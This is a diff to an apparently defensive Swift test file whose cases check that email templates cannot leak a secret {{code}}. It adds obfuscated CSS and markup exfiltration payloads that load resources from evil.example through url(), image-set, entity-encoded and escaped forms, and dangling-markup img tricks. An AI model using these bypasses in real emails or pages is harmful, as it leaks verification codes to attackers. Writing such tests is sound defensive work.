@@ -56,6 +56,7 @@ struct MailSecretTests {
             "<!DOCTYPE html><html><head><title>{{application}}</title><style>p > b { color: red }</style></head>"
                 + #"<body style="margin:0"><img src="https://app.example/logo.png" alt=""><p>1 < 2: {{code}}</p></body>"#
                 + "</html>",
+            #"<p style="font-family:&quot;Noto Sans&quot;,&#39;Arial&#39;;color:#222">{{code}}</p>"#,
             "<!--[if mso]><table><tr><td><![endif]--><td>app.example</td><td>{{code}}</td><!-- x -->",
             #"<a href="https://app.example/?user={{email}}">{{code}}</a>"#,
             #"<style>@media (max-width: 600px) { a[href^="https"] { color: teal } }</style><a href="{{link}}">x</a>"#,
@@ -82,6 +83,11 @@ struct MailSecretTests {
             #"<style media=all>a[href*="=2"]{background:\75rl(//evil.example/2)}</style><a href="{{link}}">x</a>"#,
             #"<style>p{color:red}</style><STYLE >p{background:Url(//evil.example/2)}</STYLE ><a href="{{link}}">x</a>"#,
             #"<link rel="stylesheet" href="https://evil.example/2.css"><a href="{{link}}">x</a>"#,
+            #"<p style="background:url(https://evil.example/2.png)">{{code}}</p>"#,
+            #"<td STYLE='color:red;background:Image-Set("//evil.example/2" 1x)'>{{code}}</td>"#,
+            #"<p style="background:url&lpar;//evil.example/2)">{{code}}</p>"#,
+            #"<p style="background:&#117;rl(//evil.example/2)">{{code}}</p>"#,
+            #"<p style="background:\75rl(//evil.example/2)">{{code}}</p>"#,
             #"<title><b title="</title><img src='https://evil.example/?"> {{code}} '>"#,
             #"<svg><![CDATA[><b title="]]><img src='https://evil.example/?"> {{code}} '>"#,
             #"<!-- --!><img src="https://evil.example/ --> {{code}}">"#, "<!-- {{code}} --> {{code}}",
